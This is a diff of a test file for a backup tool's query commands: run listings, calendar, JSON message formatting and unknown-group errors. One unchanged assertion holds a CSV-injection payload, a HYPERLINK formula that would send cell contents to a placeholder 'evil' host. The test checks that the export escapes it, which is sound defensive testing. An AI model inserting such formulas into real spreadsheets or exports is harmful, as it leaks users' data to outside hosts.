@@ -1,11 +1,11 @@
 // The query commands as users meet them: the real bin/lakeguard on a file:// repository with a
 // local path source changed between backups, and (for output pinned by snapshots) the same
 // repository read through a hand-built catalog with fixed dates.
-import { readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Catalog } from '../../src/catalog/catalog.js';
-import { runCli, summaryOf, type CliResult } from '../helpers/cli.js';
+import { runCli, summaryOf, type CliResult, messagesOf } from '../helpers/cli.js';
 import { tempDir, writeTree } from '../helpers/fixtures.js';
 import { seedQueryCatalog } from '../helpers/query-fixture.js';
 import { emptyCounters } from '../../src/engine/events.js';
@@ -53,7 +53,7 @@ describe('query commands', { timeout: 120_000 }, () => {
     rmSync(join(dir.path, 'lake', 'a/1.json'));
     ok(await cli(['backup', '--quiet'])); // run 4
     const runs = ok(await cli(['runs', '--json']));
-    runIds.push(...(JSON.parse(runs.stdout.trim()) as { id: string }[]).map((r) => r.id));
+    runIds.push(...messagesOf(runs, 'run').map((r) => r.id as string));
     expect(runIds).toHaveLength(4);
 
     // The same repository, read through a catalog built by hand.
@@ -131,7 +131,7 @@ describe('query commands', { timeout: 120_000 }, () => {
   });
 
   it('calendar --json gives every day of the month and the runs of today', async () => {
-    const runs = JSON.parse(ok(await cli(['runs', '--json'])).stdout.trim()) as { started: number }[];
+    const runs = messagesOf(ok(await cli(['runs', '--json'])), 'run');
     const day = new Date(runs[0]!.started).toISOString().slice(0, 10);
     const r = ok(await cli(['calendar', '--json', '--month', day.slice(0, 7)]));
     const days = lines(r, 'day');
@@ -155,7 +155,7 @@ describe('query commands', { timeout: 120_000 }, () => {
     const json = summaryOf(ok(await cli(['runs', 'show', runIds[3]!, '--json'])));
     expect(json).toMatchObject({ id: runIds[3], versionsRecorded: 1, deleteMarkersRecorded: 1, failures: 0, counters: { objectsDeleted: 1 } });
     // Plain `runs` still lists.
-    expect(ok(await cli(['runs'])).stdout).toMatch(/^ID\s+GROUP\s+STARTED/);
+    expect(ok(await cli(['runs'])).stdout).toMatch(/^ID\s+GROUP\s+FINISHED/);
   });
 
   it('find: globs, --deleted, --larger-than and --since through the CLI', async () => {
@@ -228,6 +228,42 @@ describe('query commands', { timeout: 120_000 }, () => {
     expect(lines(json, 'match').map((m) => m.key)).toContain(evil);
     const csv = await h(['runs', 'show', '2', '--csv']);
     expect(csv.stdout.split('\n')[1]).toBe(`raw,"'=HYPERLINK(""http://evil/""&A1)",,AccessDenied,denied`);
+  });
+
+  it('an unknown group is exit 2 with the known groups, never an empty answer; bucket hints say what the catalog holds', async () => {
+    for (const args of [['runs', '--group', 'nope'], ['calendar', '--group', 'nope'], ['diff', '1', '2', '--group', 'nope']]) {
+      const r = await cli(args);
+      expect(r.code, `${args.join(' ')}: ${r.stdout}`).toBe(2);
+      expect(r.stderr, args.join(' ')).toBe('lakeguard: no group named "nope" in the policy or the catalog\n  hint: groups: local\n');
+    }
+    // A repository whose only run recorded nothing (an empty source) has a catalog that is not "empty".
+    const emptyPolicy = join(dir.path, 'empty-source.yaml');
+    mkdirSync(join(dir.path, 'empty-lake'));
+    writeFileSync(emptyPolicy, 'version: 1\nrepository:\n  url: file://./empty-repo\ngroups:\n  - name: local\n    sources:\n      - path: ./empty-lake\n');
+    ok(await runCli(['--policy', emptyPolicy, 'init'], env()));
+    ok(await runCli(['--policy', emptyPolicy, 'backup', '--quiet'], env()));
+    const ls = await runCli(['--policy', emptyPolicy, 'ls', 's3://empty-lake/'], env());
+    expect(ls.code).toBe(2);
+    expect(ls.stderr).toMatch(/hint: none of the 1 run in the catalog recorded an object: see `lakeguard runs`/);
+  });
+
+  it('--json: every line of every command is a message with a message_type (runs included)', async () => {
+    // (versions, find, ls and diff share one printer; verify, prune, forget, policy and the rest
+    // print only reporter summaries.)
+    const commands = [['runs'], ['runs', 'show', '1', '--failures'], ['find', '**'], ['calendar'], ['cost'], ['backup', '--dry-run'], ['runs', '--group', 'nope']];
+    const results = await Promise.all(commands.map((args) => cli([...args, '--json'])));
+    for (const [i, r] of results.entries()) {
+      const what = `${commands[i]!.join(' ')} (exit ${r.code}): ${r.stdout}${r.stderr}`;
+      const printed = [...r.stdout.split('\n'), ...r.stderr.split('\n')].filter((l) => l !== '');
+      expect(printed.length, what).toBeGreaterThan(0);
+      for (const line of printed) {
+        const message = JSON.parse(line) as unknown;
+        expect(typeof message === 'object' && message !== null && !Array.isArray(message), what).toBe(true);
+        expect(typeof (message as { message_type?: unknown }).message_type, what).toBe('string');
+      }
+    }
+    expect(messagesOf(results[0]!, 'run').map((r) => r.id)).toEqual(runIds);
+    expect(summaryOf(results[0]!)).toMatchObject({ runs: 4 });
   });
 
   describe('human output on fixed dates', () => {
